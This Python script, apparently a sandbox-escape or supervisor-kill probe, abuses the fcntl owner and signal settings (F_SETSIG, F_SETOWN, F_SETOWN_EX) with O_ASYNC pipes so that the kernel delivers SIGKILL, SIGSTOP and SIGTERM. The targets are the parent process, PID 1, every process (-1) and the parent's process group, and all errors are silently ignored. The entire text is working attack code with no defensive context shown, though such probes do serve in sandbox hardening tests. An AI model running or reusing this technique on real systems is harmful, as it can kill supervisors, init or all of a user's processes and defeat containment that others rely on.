# Have the kernel send the signal: file owners, leases and message queues name any process.
import ctypes
import fcntl
import os
import signal
import struct

for pid in (os.getppid(), 1, -1, -os.getppid(), os.getppid() - 1):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            read, write = os.pipe()
            fcntl.fcntl(read, 10, number)  # F_SETSIG
            fcntl.fcntl(read, 8, pid)  # F_SETOWN
            fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(write, b"x")
            fcntl.fcntl(read, 15, struct.pack("<ii", 1, pid))  # F_SETOWN_EX
            os.write(write, b"x")
        except OSError:
            pass
